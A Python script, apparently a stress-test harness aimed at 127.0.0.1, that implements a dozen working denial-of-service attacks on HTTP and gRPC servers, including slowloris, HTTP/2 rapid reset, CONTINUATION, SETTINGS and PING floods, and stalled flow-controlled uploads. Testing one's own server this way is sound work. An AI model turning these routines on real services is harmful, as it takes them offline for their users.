"""What rude peers do, each until it is ended: `python attacks.py NAME PORT` (an address of 127.0.0.1).

By raw sockets, since no client library does any of it. Servers close on most of them; they come again.
"""

from __future__ import annotations

import contextlib
import itertools
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

CROWD = 1200  # slow ones at a time: more than there is room for
FLOOD = 10_000  # connections,
OPENED = 2500  # at most so many a second, of crowds too
STREAMS = 10_000
# Frames a second, sent in parts of so many. More tells how fast the attacker is.
FRAMES, PART = 10_000, 200
BYTES = 256 << 20  # a second, of those who send much
CALLS = 16  # at a time on one connection: as many as it may have
EXPORT = b"/opentelemetry.proto.collector.logs.v1.LogsService/Export"
POST = b"POST /v1/logs HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n"

# HTTP/2.
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
INITIAL_WINDOW_SIZE = 4
ACK = END_STREAM = 1
END_HEADERS = 4


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(*more: tuple[bytes, bytes], path: bytes = EXPORT, kind: bytes = b"application/grpc") -> bytes:
    """The headers of a gRPC call, in HPACK without Huffman or tables; more: further headers."""
    named = [(b"content-type", kind), (b"te", b"trailers"), *more]
    literals = [b"\x04" + _text(path), b"\x01" + _text(b"x")]
    literals += [b"\x00" + _text(name) + _text(value) for name, value in named]
    return b"\x83\x86" + b"".join(literals)  # POST, http


def _text(value: bytes) -> bytes:
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, bytearray(b"\x7f")
    while rest > 127:
        length.append(rest & 127 | 128)
        rest >>= 7
    return bytes([*length, rest]) + value


def message(payload: bytes, *, compressed: bool = False) -> bytes:
    """One message as gRPC frames it."""
    return bytes([compressed]) + struct.pack(">I", len(payload)) + payload


def connected(port: int) -> socket.socket:
    """A connection; OSError as sockets have it."""
    return socket.create_connection(("127.0.0.1", port), 5)


def greeted(port: int) -> socket.socket:
    """An HTTP/2 connection behind its handshake."""
    peer = connected(port)
    peer.sendall(PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK))
    return peer


def _trickle(
    port: int,
    first: bytes,
    part: bytes,
    *,
    opened: Callable[[int], socket.socket] = connected,
    pace: float = OPENED,
) -> None:
    """A crowd that sends something, then a little each second; who is closed comes again. pace: new ones a second."""
    peers: list[socket.socket] = []
    while True:
        began = time.monotonic()
        for peer in list(peers):
            try:
                peer.send(part)
            except OSError:
                peer.close()
                peers.remove(peer)
        while len(peers) < CROWD:
            try:
                peer = opened(port)
                peers.append(peer)
                peer.send(first)
            except OSError:
                break
            time.sleep(1 / pace)
        time.sleep(max(0.0, 1 - (time.monotonic() - began)))


def _hammer(
    port: int, parts: Callable[[], Iterator[bytes]], opened: Callable[[int], socket.socket] = greeted
) -> None:
    """Sends FRAMES a second and reads next to nothing; when it is closed, comes again."""
    while True:
        with contextlib.suppress(OSError), opened(port) as peer:
            peer.settimeout(1)
            for part in parts():
                peer.sendall(part)
                if select.select([peer], [], [], 0)[0]:
                    peer.recv(1 << 20)
                time.sleep(PART / FRAMES)
        time.sleep(0.01)


def slow_headers(port: int) -> None:
    """Slow loris: the header block never ends."""
    _trickle(port, POST, b"x")


def slow_bodies(port: int) -> None:
    """The body is announced and comes a byte a second."""
    _trickle(port, POST + b"content-length: 1000\r\n\r\n", b"\x00")


def half_closed(port: int) -> None:
    """Half a body, and the sending side is closed."""

    def opened(port: int) -> socket.socket:
        peer = connected(port)
        peer.sendall(POST + b"content-length: 1000\r\n\r\nhalf")
        peer.shutdown(socket.SHUT_WR)
        return peer

    _trickle(port, b"", b"", opened=opened)


def flood(port: int, opened: Callable[[int], socket.socket] = connected) -> None:
    """Connections that do nothing."""
    peers: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            peers.append(opened(port))
        time.sleep(1 / OPENED)
        if len(peers) > FLOOD:
            peers.pop(0).close()
            time.sleep(0.01)


def flood_greeted(port: int) -> None:
    """HTTP/2 connections that do nothing."""
    flood(port, greeted)


def vanishing(port: int) -> None:
    """Asks for much, and is gone before the answer."""
    ask = b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n" * 20
    reset = struct.pack("ii", 1, 0)
    while True:
        with contextlib.suppress(OSError), connected(port) as peer:
            peer.sendall(ask)
            peer.recv(1)
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, reset)
        time.sleep(0.05)


def rapid_reset(port: int) -> None:
    """Streams that are opened and reset at once."""
    head = block()

    def parts() -> Iterator[bytes]:
        for stream in range(1, 2 * STREAMS, PART):
            yield b"".join(
                frame(HEADERS, END_HEADERS, n, head) + frame(RST, 0, n, struct.pack(">I", 8))
                for n in range(stream, stream + PART, 2)
            )

    _hammer(port, parts)


def continuations(port: int) -> None:
    """A header block that goes on for ever."""

    def parts() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, block())
        more = frame(
            CONTINUATION, 0, 1, b"".join(b"\x00" + _text(b"x%d" % n) + _text(b"y" * 100) for n in range(100))
        )
        while True:
            yield more

    _hammer(port, parts)


def settings(port: int) -> None:
    """SETTINGS, each of which asks for an ACK."""
    _hammer(port, lambda: itertools.repeat(frame(SETTINGS) * PART))


def pings(port: int) -> None:
    """PINGs, the same."""
    _hammer(port, lambda: itertools.repeat(frame(PING, 0, 0, bytes(8)) * PART))


def half_calls(port: int) -> None:
    """As many calls as the connection may have, with a message that comes a byte a second."""

    def opened(port: int) -> socket.socket:
        peer = greeted(port)
        begun = message(b"x" * 1000)[:100]
        for stream in range(1, 2 * CALLS, 2):
            peer.sendall(frame(HEADERS, END_HEADERS, stream, block()) + frame(DATA, 0, stream, begun))
        return peer

    _trickle(port, b"", frame(DATA, 0, 1, b"x"), opened=opened, pace=FRAMES / (2 * CALLS))


class _Window:
    """What a server lets a peer send: RFC 9113, 5.2 and 6.9."""

    def __init__(self) -> None:
        self._first = 65_535
        self.connection = 65_535
        self.streams: dict[int, int] = {}
        self._rest = b""

    def open(self, stream: int) -> None:
        self.streams[stream] = self._first

    def heard(self, data: bytes) -> None:
        data = self._rest + data
        while len(data) >= 9 and len(data) >= (end := 9 + int.from_bytes(data[:3], "big")):
            kind, flags, stream, payload = data[3], data[4], int.from_bytes(data[5:9], "big"), data[9:end]
            data = data[end:]
            if kind == WINDOW_UPDATE and stream == 0:
                self.connection += int.from_bytes(payload, "big")
            elif kind == WINDOW_UPDATE and stream in self.streams:
                self.streams[stream] += int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                self._settings(payload)
            elif kind == RST or (kind == HEADERS and flags & END_STREAM):
                self.streams.pop(stream, None)
        self._rest = data

    def _settings(self, payload: bytes) -> None:
        for number, value in struct.iter_unpack(">HI", payload):
            if number == INITIAL_WINDOW_SIZE:
                self.streams = {stream: left + value - self._first for stream, left in self.streams.items()}
                self._first = value


def unfinished(port: int) -> None:
    """Messages of 60 MiB without their last byte, as many as some connections may have; who is refused comes again."""
    size, peers = 60 << 20, 4
    while True:
        with contextlib.suppress(OSError), contextlib.ExitStack() as stack:
            known: dict[socket.socket, tuple[_Window, dict[int, int]]] = {}
            for _ in range(peers):
                peer = stack.enter_context(greeted(port))
                peer.setblocking(False)
                window, left = _Window(), dict.fromkeys(range(1, 2 * CALLS, 2), size)
                for stream in left:
                    window.open(stream)
                    begun = frame(DATA, 0, stream, b"\x00" + struct.pack(">I", size + 1))
                    peer.sendall(frame(HEADERS, END_HEADERS, stream, block()) + begun)
                known[peer] = window, left
            while any(window.streams for window, _ in known.values()):
                began = time.monotonic()
                for peer, (window, left) in known.items():
                    with contextlib.suppress(BlockingIOError):
                        window.heard(peer.recv(1 << 16))
                    for stream in list(window.streams):
                        part = min(1 << 14, window.connection, window.streams[stream], left[stream])
                        if part > 0:
                            peer.setblocking(True)
                            peer.sendall(frame(DATA, 0, stream, bytes(part)))
                            peer.setblocking(False)
                            window.connection -= part
                            window.streams[stream] -= part
                            left[stream] -= part
                time.sleep(max(0.0, peers * CALLS / BYTES * (1 << 14) - (time.monotonic() - began)))


# name -> (the door, the attack)
ATTACKS: dict[str, tuple[str, Callable[[int], None]]] = {
    "slow headers": ("http", slow_headers),
    "slow bodies": ("http", slow_bodies),
    "half-closed": ("http", half_closed),
    "10,000 connections": ("http", flood),
    "gone before the answer": ("api", vanishing),
    "rapid reset": ("grpc", rapid_reset),
    "endless headers": ("grpc", continuations),
    "SETTINGS": ("grpc", settings),
    "PING": ("grpc", pings),
    "calls that never end": ("grpc", half_calls),
    "10,000 HTTP/2 connections": ("grpc", flood_greeted),
    "messages without an end": ("grpc", unfinished),
}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]][1](int(sys.argv[2]))
